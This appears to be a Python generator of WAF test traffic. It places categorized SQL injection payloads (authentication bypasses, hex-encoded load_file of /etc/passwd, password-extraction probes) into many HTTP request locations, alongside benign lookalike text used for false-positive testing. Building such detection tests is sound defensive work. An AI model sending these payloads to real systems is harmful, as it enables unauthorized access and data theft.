    ("sql-comment-sequence", [
        "admin'--",
        "1;--",
        "x'#",
        "1/*",
        "*/ OR 1=1 /*",
        "1--+",
        "1-- -",
        "1 /**/",
        "'; --",
        "1);--",
        "admin\"#",
        "1 --comment",
        (ENC, "1%2D%2D"),
        (JU, "admin\\u0027--"),
    ]),
    # 942450 PL2: SQL Hex Encoding Identified
    ("sql-hex-encoding", [
        "0x61646d696e",
        "1 UNION SELECT 0x3c3f706870",
        "' or user=0x726f6f74--",
        "load_file(0x2f6574632f706173737764)",
        "0X41424344",
        "concat(0x3a,0x3a3a3a)",
        "x'+0x2f2a--",
        "X'61646d696e'",
        "select 0x4142434445464748",
        "1 AND table_name=0x7573657273",
        "0x0a0d0a0d",
        (ENC, "1%20or%20name%3D0x61646d696e"),
        (JU, "\\u0030x61646d696e"),
    ]),
    # 942510 PL2: SQLi bypass attempt by ticks or backticks detected
    ("ticks-backticks-bypass", [
        "1 or `a`=`a`",
        "SELECT `password` FROM `users`",
        "`admin`",
        "´or 1=1´",
        "´UNION SELECT 1´",
        "1`) or (`1`=`1",
        "`sleep(5)`",
        "username`=`username",
        "`ZWNobyBoaQ==`",
        "name` FROM users WHERE `1",
        "`x` LIKE `x`",
        "order by `id`+`desc`",
        (ENC, "%60admin%60"),
        (JU, "\\u0060or 1=1\\u0060"),
    ]),
    # 4.x: JSON-Based SQL Injection
    ("json-based-sqli", [
        "1 AND '{\"a\":2}' @> '{\"a\":2}'",
        "' OR JSON_EXTRACT('{\"id\": 14}', '$.id') = '14'--",
        "1 or '{}' <@ '{}'",
        "' and JSON_DEPTH('{}') != 2--",
        "1 or json_valid('{}')",
        "' || '{\"a\":1}'::jsonb ? 'a'--",
        "' OR JSON_CONTAINS('[1]','1')--",
        "1 OR '{\"b\":2}'::jsonb->>'b'='2'",
        "' OR JSON_KEYS('{\"a\":1}') IS NOT NULL#",
        "1 AND JSON_QUERY('{\"a\":[1]}','$.a') IS NOT NULL",
        "' OR ISJSON('{}')=1--",
        "1 and '[1,2]'::json->>0='1'",
        (ENC, "1%20or%20%27%7B%7D%27%20%3C%40%20%27%7B%7D%27"),
    ]),
    # 4.x: MySQL Scientific Notation payload detected
    ("mysql-scientific-notation", [
        "1.e(ascii 1.e(substring(1.e(select password from users limit 1 1.e,1 1.e) 1.e,1 1.e) 1.e)",
        "1.e(user())",
        "1e1union select 1",
        "0.0e0union all select 1",
        "1.e)union select 1",
        "-1.E(concat(0x7e,version()))",
        "select 1.e1from dual",
        "1.e(version())",
        "1.E(user()1.E)",
        "'1.e('",
        "2.e3 or 1=1",
        "1.1e1from users",
        (ENC, "1.e%28ascii%201.e%28substring%28user%28%29%2C1%2C1%29%29%29"),
    ]),
    # 4.x: SQL Authentication bypass (split query)
    ("auth-bypass-split-query", [
        "admin'/*",
        "*/ OR '1'='1",
        "'/*",
        "*/ or 1=1 --",
        "\"/*",
        "*/ or \"\"=\"",
        "*/ OR 1=1#",
        "')/*",
        "*/)) or ((1=1",
        "*/='",
        (QS, "username=admin%27%2F*&pass=*%2For%2F**%2F1%3D1--"),
        (QS, "user=x%27%20%2F*&pass=*%2F%20or%201%3D1%20%23"),
        (JU, "admin\\u0027/*"),
    ]),
    # 4.x: Detects basic SQL authentication bypass attempts 4/4
    ("auth-bypass-4-of-4", [
        "' or true#",
        "'or''='",
        "\"or\"\"=\"",
        "admin'or'1'='1",
        "'oR'x'='x",
        "' OR 'a'<>'b",
        "'||1#",
        "' div 1#",
        "'like'",
        "' xor 'x",
        "') or true--",
        "1'or'1",
        (ENC, "%27or%27%27%3D%27"),
        (JU, "\\u0027or\\u0027\\u0027=\\u0027"),
    ]),
]

REAL = ["query", "form", "json", "query", "cookie", "header:User-Agent", "form", "header:Referer", "json",
        "param-name", "xml", "multipart-field", "header:X-Api-Filter", "multipart-filename", "path"]
RS = ["rs-query", "rs-form", "rs-json", "rs-query", "rs-xml", "rs-raw-body", "rs-header:User-Agent",
      "rs-form", "rs-header:Referer", "rs-json", "rs-header:X-Custom", "rs-cookie"]
RS_PATHS = ["/", "/index.php", "/get", "/post", "/search", "/api/v1/items", "/cgi-bin/test.cgi"]
RS_NAMES = ["foo", "var", "x", "test", "id", "arg1"]
REAL_NAMES = ["q", "name", "id", "search", "sort", "filter"]
BOUNDARY = "----WebKitFormBoundary7MA4YWxkTrZu0gW"
WIRE_SAFE = "!#$%&'()*+,/:;=?@[]~"


def _wire(s: str) -> str:
    """A pre-encoded payload on the wire: any character a client would not send raw percent-encoded."""
    return urllib.parse.quote(s, safe=WIRE_SAFE)


def _eligible(kind: str, payload: str, place: str) -> bool:
    bare = place.removeprefix("rs-")
    if kind == ENC:
        return bare in ("query", "form", "cookie", "path", "raw-body", "header:Referer")
    if kind in (JU, DOC):
        return bare == "json"
    if kind == QS:
        return bare in ("query", "form")
    if any(c in payload for c in "\r\n\x00") and (bare.startswith("header") or bare == "cookie"):
        return False
    return not (bare == "multipart-filename" and ('"' in payload or "\t" in payload))


def _headers(extra: dict[str, str] | None = None, ctype: str | None = None) -> dict[str, str]:
    h = {"User-Agent": UA, "Accept": "*/*"}
    if ctype:
        h["Content-Type"] = ctype
    h.update(extra or {})
    return h


def _post(uri: str, body: str, ctype: str, extra: dict[str, str] | None = None) -> dict[str, Any]:
    return {"method": "POST", "uri": uri, "body": body, "headers": _headers(extra, ctype)}


def _get_h(uri: str, extra: dict[str, str]) -> dict[str, Any]:
    return {"method": "GET", "uri": uri, "body": "", "headers": _headers(extra)}


def _multipart(fields: list[tuple[str, str]], file: tuple[str, str] | None) -> str:
    parts = [f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{k}"\r\n\r\n{v}\r\n' for k, v in fields]
    if file:
        parts.append(f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="avatar"; filename="{file[0]}"\r\n'
                     f"Content-Type: image/png\r\n\r\n{file[1]}\r\n")
    return "".join(parts) + f"--{BOUNDARY}--\r\n"


def _real(place: str, kind: str, p: str, name: str) -> dict[str, Any]:
    raw = kind in (ENC, QS)
    val = _wire(p) if raw else p
    if kind == QS:
        if place == "query":
            return _get("/api/users?" + val)
        return _post("/admin/users/search", "csrf_token=t0k3n&" + val, "application/x-www-form-urlencoded")
    if kind == DOC:
        return _post("/api/users", p, "application/json")
    if kind == JU:
        return _post("/api/users", '{"email": "a@example.org", "' + name + '": "' + p + '"}', "application/json")
    if place == "query":
        return _get("/api/users?" + name + "=" + val + "&page=1") if raw else \
            _get(_query("/api/users", [(name, p), ("page", "1")]))
    if place == "form":
        if raw:
            return _post("/admin/users/search", "csrf_token=t0k3n&" + name + "=" + val,
                         "application/x-www-form-urlencoded")
        return _form("/admin/users/search", [("csrf_token", "t0k3n"), (name, p)])
    if place == "json":
        return _json("/api/users", {"email": "a@example.org", name: p})
    if place == "cookie":
        return _get_h("/api/users?page=1", {"Cookie": "session=abc123; prefs=" +
                                            (val if raw else urllib.parse.quote(p, safe="'()*=!/:@"))})
    if place == "header:User-Agent":
        return {"method": "GET", "uri": "/api/users?page=1", "body": "", "headers": {"User-Agent": p, "Accept": "*/*"}}
    if place == "header:Referer":
        return _get_h("/api/users?page=1", {"Referer": "https://shop.example.com/item.php?id=" + p})
    if place == "header:X-Api-Filter":
        return _get_h("/api/users?page=1", {"X-Api-Filter": p})
    if place == "param-name":
        return _get("/api/users?" + urllib.parse.quote(p, safe="") + "=1&page=1")
    if place == "xml":
        return _post("/api/users", f'<?xml version="1.0"?><user><email>a@example.org</email><{name}>{escape(p)}'
                                   f"</{name}></user>", "application/xml")
    if place == "multipart-field":
        return _post("/admin/users/search", _multipart([("csrf_token", "t0k3n"), (name, p)], None),
                     f"multipart/form-data; boundary={BOUNDARY}")
    if place == "multipart-filename":
        return _post("/admin/users/search", _multipart([("csrf_token", "t0k3n")], (p, "\x89PNG....")),
                     f"multipart/form-data; boundary={BOUNDARY}")
    # path
    return _get("/api/users/" + (val if raw else urllib.parse.quote(p, safe="")))


def _rs(place: str, kind: str, p: str, path: str, name: str) -> dict[str, Any]:
    raw = kind in (ENC, QS)
    val = _wire(p) if raw else p
    form = "application/x-www-form-urlencoded"
    if kind == QS:
        if place == "rs-query":
            return _get(path + "?" + val)
        return _post(path, val, form)
    if kind == DOC:
        return _post(path, p, "application/json")
    if kind == JU:
        return _post(path, '{"' + name + '": "' + p + '"}', "application/json")
    if place == "rs-query":
        return _get(path + "?" + name + "=" + val) if raw else _get(_query(path, [(name, p)]))
    if place == "rs-form":
        return _post(path, name + "=" + val, form) if raw else _post(path, urllib.parse.urlencode([(name, p)]), form)
    if place == "rs-raw-body":
        return _post(path, val, form)
    if place == "rs-json":
        return _post(path, json.dumps({name: p}), "application/json")
    if place == "rs-xml":
        return _post(path, f"<request><{name}>{escape(p)}</{name}></request>", "text/xml")
    if place == "rs-header:User-Agent":
        return {"method": "GET", "uri": path, "body": "", "headers": {"User-Agent": p, "Accept": "*/*"}}
    if place == "rs-header:Referer":
        return _get_h(path, {"Referer": "http://testsite.example/page?" + name + "=" + p})
    if place == "rs-header:X-Custom":
        return _get_h(path, {"X-Custom-Header": p})
    # rs-cookie
    return _get_h(path, {"Cookie": name + "=" + (val if raw else urllib.parse.quote(p, safe="'()*=!/:@"))})


def _pick(places: list[str], start: int, kind: str, p: str) -> tuple[str, int]:
    for k in range(len(places)):
        place = places[(start + k) % len(places)]
        if _eligible(kind, p, place):
            return place, start + k + 1
    raise AssertionError(f"no placement for {kind} {p!r}")


def attacks() -> Iterator[dict[str, Any]]:
    n = 0
    ri = si = 0
    for sub, entries in TITLES:
        for e in entries:
            kind, p = (e if isinstance(e, tuple) else ("plain", e))
            real, ri = _pick(REAL, ri, kind, p)
            rs, si = _pick(RS, si, kind, p)
            name = REAL_NAMES[n % len(REAL_NAMES)]
            path, rs_name = RS_PATHS[n % len(RS_PATHS)], RS_NAMES[(n // 2) % len(RS_NAMES)]
            for place, rec in ((real, _real(real, kind, p, name)), (rs, _rs(rs, kind, p, path, rs_name))):
                n += 1
                yield {**rec, "id": f"{NAME}-sqli-{n:04d}", "category": "sqli", "sub": sub, "placement": place,
                       "payload": p}


# Benign: the same words as people type them (Slack, bios, searches, notes, names, addresses, links).
TEXTS = [
    # developers talking about databases in chat
    "can someone run select count(*) from orders where created_at > now() - interval '1 day' on the replica?",
    "the union of both lists is in the sheet, duplicates removed",
    "don't drop the staging table until QA signs off",
    "I'll update the users table docs after lunch",
    "insert the new rows via the admin import, not by hand",
    "we should delete from the backlog anything older than a year",
    "sleep well everyone, see you tomorrow",
    "benchmark results for the new laptop: 20% faster builds",
    "the information schema views in postgres are slow on big catalogs",
    "pg_sleep is handy when testing timeouts locally, never in prod",
    "waitfor delay is the T-SQL way to pause, fyi for the SQL Server folks",
    "the DBA will shutdown the old cluster on Saturday at 06:00",
    "MongoDB $regex queries need an index or they crawl",
    "mysql 8 removed the query cache, so don't bother tuning it",
    "our Oracle license renews in March, procurement is on it",
    "SQLite is fine for the CLI cache, no need for a server",
    "order by created_at desc and limit 50 is what the feed uses",
    "the group by + having combo in the report query was wrong, fixed now",
    "use a CASE expression in the view instead of two queries",
    "merge the PR when CI is green please",
    "execute the migration script with --dry-run first",
    "is anyone using the full-text match against search in the wiki plugin?",
    "we store hex colors like #ff8800 in the theme table",
    "the char limit for display names is 80",
    "coalesce the nulls to zero in the dashboard",
    "integer overflow bit us in the counter, moved it to bigint",
    "the max 32-bit int is 2147483647 for the record",
    "stored procedures are banned in new code, keep logic in the service",
    "the trigger that audits role changes is documented in the runbook",
    "load data from the CSV export, then run the checks",
    "the backtick key on the new keyboards is in a weird spot",
    "comment out the flaky test -- we'll fix it Monday",
    "the shell prompt shows # when you're root, be careful",
    "the regexp for phone numbers lives in validators.py",
    "we compare with <> in legacy SQL and != in the new code",
    "1=1 in a where clause is a code smell, the linter flags it now",
    "the rlike operator is MySQL-only, postgres uses ~",
    "json_extract is slow on big documents, use generated columns",
    "the jsonb @> operator makes the tags filter fast",
    "the scientific notation 1e9 in the config means one billion",
    "the xp points for the game leaderboard are in the scores table",
    "sp_who shows the blocking sessions on the SQL Server box",
    "dbms_output only prints after the block ends in Oracle",
    "utl_file access is disabled on the managed instance",
    "openrowset needs ad hoc queries enabled, which we keep off",
    "the select committee hearing is streaming at 3pm",
    "who owns the drop-down component in the design system?",
    "the union representative joins the all-hands on Thursday",
    "truncate the log text in the UI after 200 chars",
    "alter the meeting invite to 45 minutes please",
    # everyday prose
    "I'm O'Brien from accounting; my badge doesn't open the 3rd floor",
    "Sean O'Connor and D'Angelo Smith are on the guest list",
    "we're at 12 Union Street, Suite 4, Springfield",
    "Select Comfort mattress order #55312 arrived damaged",
    "drop shipping from the Lisbon warehouse starts in May",
    "my daughter's sleep schedule is a mess after the trip",
    "the benchmark index rose 2% today",
    "delete my account please, I'm moving to a new provider",
    "update: the meeting moved to room 204",
    "I can't log in; it says 'invalid user' or 'expired token'",
    "Rock 'n' roll night at the pub, 8pm, tickets at the door",
    "Don't forget: it's Mother's Day on Sunday",
    "Let's grab lunch - maybe 12:30 or 1?",
    "The quote was 'better late than never' I think",
    "Price: $19.99 (was $24.99) - 20% off!",
    "Ratio of 3:1 water to rice, salt to taste",
    "temperature dropped to -5 overnight",
    "the score was 2-1, what a match",
    "the match against the Tigers is at 7",
    "Where's the 'Sales Q3' file? It's not in the shared drive",
    "Our union contract says overtime is 1.5x after 40 hours",
    "select the correct option from the menu and press continue",
    "the character set of the old CSV was latin1, I converted it",
    "there's a waitlist; I'll wait for a delay notice",
    "the table is booked for 8 people, under the name Hall",
    "Sleep Number bed ad keeps following me around",
    "Case closed: the refund went through",
    "If it rains, then we move the picnic indoors; else we meet at the park",
    "he said \"we'll see\" and left",
    "the exec team meets on Mondays",
    "Shutdown of the cafeteria for renovation: June 1-15",
    "Grant writing workshop, register by Friday",
    "Execute the plan, then report back",
    "The Declaration of Independence is on display in the rotunda",
    "Reply-all etiquette reminder: please don't",
    "50% of respondents chose 'agree' or 'strongly agree'",
    "Top 10 hiking trails near Denver",
    "char siu pork recipe with honey glaze",
    "I love the Having Fun podcast episode about bees",
    "exists in the inventory? please check and let me know",
    "from the desk of the managing director",
    "Union Pacific train delays on the north line",
    "Null Island is at 0,0 in the Gulf of Guinea",
    "my password manager says the vault is locked",
    "I'll be out of office from the 3rd to the 10th",
    "pick the version that fits your OS from the download page",
    "the user agreement changed; please review section 4",
    "the hex key for the bike is in the garage",
    "a backtick (`) is not the same as an apostrophe (')",
    "the dash in the title should be an en dash, not --",
    "our Wi-Fi is 'Guest-5G' and the code is on the fridge",
    "My name is Zoë-Marie d'Arcy",
    "Frank's Bar & Grill, 44 Order Lane",
    "Or else what? she asked",
    "And 1 more thing: bring your laptop",
    "1 or 2 people can sit here",
    "Chapter 1: Where it all began",
    "sort by price low to high",
    "shoes size 42 or 43",
    "red and blue and green",
    "between 10 and 20 items per box",
    "like new condition, barely used",
    "not null and void, the contract still stands",
    "Buy 1 get 1 free this weekend only",
    "Section 5 (b) applies only if (a) is not met",
    "The movie 'Sleepless in Seattle' is on tonight",
    "team offsite in Lisbon: flights, hotels & agenda",
    "Mark Dumpfile, Senior Engineer",
    "Anna Outfile joined the design team",
    "Harriet Select, Head of Procurement",
    "Tom Union, Logistics",
    "Priya Alter, Customer Success",
    "Benchmark Capital is leading the round",
    "I sleep 5 hours a night on average",
    "Sleep(5 hours) is not enough, says my doctor",
    "Version 2.0 (beta) release notes",
    "Count me in! (and my +1)",
    "it's a 4x4 truck with a 2.5l engine",
    "call me at +1 (555) 010-2030",
    "the char-grilled vegetables were great",
    "the ASCII art banner in the README looks broken",
    "concat the first and last name in the export, please",
    "the substring 'abc' appears twice in the title",
    "length of the report: about 12 pages",
    "user group meeting: Postgres Lisbon, May 12",
    "database migration window: Sunday 02:00-04:00 UTC",
    "version 3.3.4 fixed the bug we hit",
    "hello world",
    "I'd like to order two large pizzas",
    "Is the store open on Sunday?",
    "the kids' room needs a new lamp",
    "we'd rather pay by card than cash",
    "where's my parcel? tracking says 'in transit'",
    "5' 11\" tall, brown hair",
    "a 12\" pizza and a 2-litre soda",
    "rating: 4.5/5 - would recommend",
    "see the FAQ: https://help.example.com/faq#billing",
]
SEARCHES = [
    "select committee", "union station", "drop shipping", "sleep apnea", "benchmark tests", "case study",
    "merge conflict", "match report", "order history", "group discount", "having trouble logging in",
    "insert coin", "update address", "delete account", "shutdown schedule", "table reservation",
    "o'brien", "d'angelo", "rock 'n' roll", "mother's day", "kids' toys", "6' ladder", "12\" pizza",
    "char siu", "hex bolts", "null island", "top 10", "between jobs", "like new", "or best offer",
    "and more", "1 or 2", "x or y", "a and b", "exec chair", "alter ego", "waitfor", "benchmark capital",
    "sql tutorial", "mysql vs postgres", "mongodb atlas pricing", "oracle cloud free tier",
    "sqlite browser", "information architecture", "master bedroom", "pg&e bill", "json viewer",
    "hex to rgb", "ascii table", "scientific notation calculator",
]
NAMES = [
    "Sean O'Brien", "D'Angelo Rivers", "Zoë d'Arcy", "Mary-Kate O'Neil", "Tom Union", "Harriet Select",
    "Priya Alter", "Anna Outfile", "Mark Dumpfile", "Jean-Luc Dupont", "Ngozi Okonkwo-Adeyemi", "Liam Drop",
    "Ava Case", "Noah Match", "Ola Merge", "Ren Sleep", "Grace Benchmark", "Ivy Having", "Leo Order",
    "Maya Delete",
]
ADDRESSES = [
    "12 Union Street, Springfield", "44 Order Lane, Dublin 2", "7 Case Road, Leeds LS1 4AP",
    "Apt 3B, 101 Select Ave, New York, NY 10001", "1 Merge Plaza, Suite 200, Austin TX",
    "Flat 2, 8 O'Connell St, Limerick", "221B Baker Street, London", "Rue de l'Église 5, 1000 Bruxelles",
    "Sleepy Hollow Rd 9, Tarrytown", "Benchmark House, 3 Mill Lane, Bristol",
]
URLS = [
    "https://www.postgresql.org/docs/current/functions-datetime.html#FUNCTIONS-DATETIME-DELAY",
    "https://dev.mysql.com/doc/refman/8.0/en/union.html",
    "https://learn.microsoft.com/en-us/sql/t-sql/language-elements/waitfor-transact-sql",
    "https://www.mongodb.com/docs/manual/reference/operator/query/ne/",
    "https://sqlite.org/lang_select.html",
    "https://docs.oracle.com/en/database/oracle/oracle-database/19/lnpls/EXECUTE-IMMEDIATE-statement.html",
    "https://en.wikipedia.org/wiki/SQL_injection",
    "https://owasp.org/www-community/attacks/SQL_Injection",
    "https://shop.example.com/products?id=127&sort=price_desc",
    "https://news.example.org/2024/05/union-vote-results",
]


def benign() -> Iterator[dict[str, Any]]:
    n = yield from chat_and_bio(TEXTS, NAME)
    n = yield from numbered((prose_request(t) for t in TEXTS + SEARCHES), f"{NAME}-search", n, "form")
    n = yield from numbered((_json("/api/users/42/items", {"title": t, "qty": 1}) for t in SEARCHES),
                            f"{NAME}-item", n, "json")
    n = yield from numbered((_get(_query("/api/users", [("q", t), ("page", "1")])) for t in TEXTS + SEARCHES),
                            f"{NAME}-query", n, "query")
    n = yield from numbered((_json("/api/users/42", {"notes": t}) for t in TEXTS), f"{NAME}-comment", n, "json")
    n = yield from numbered((_json("/api/users", {"name": nm, "email": "user@example.org"}) for nm in NAMES),
                            f"{NAME}-name", n, "json")
    n = yield from numbered((_form("/admin/users/search", [("csrf_token", "t0k3n"), ("display_name", nm)])
                             for nm in NAMES), f"{NAME}-name", n, "form")
    n = yield from numbered((_json("/api/users", {"name": "Ann", "address": a}) for a in ADDRESSES),
                            f"{NAME}-address", n, "json")
    n = yield from numbered((_form("/admin/users/search", [("csrf_token", "t0k3n"), ("address", a)])
                             for a in ADDRESSES), f"{NAME}-address", n, "form")
    n = yield from numbered((_json("/api/users", {"name": "Ann", "website": u}) for u in URLS),
                            f"{NAME}-url", n, "json")
    yield from numbered((_get(_query("/api/users", [("q", "ann"), ("ref", u)])) for u in URLS),
                        f"{NAME}-url", n, "query")


if __name__ == "__main__":
    print_records(attacks(), benign())
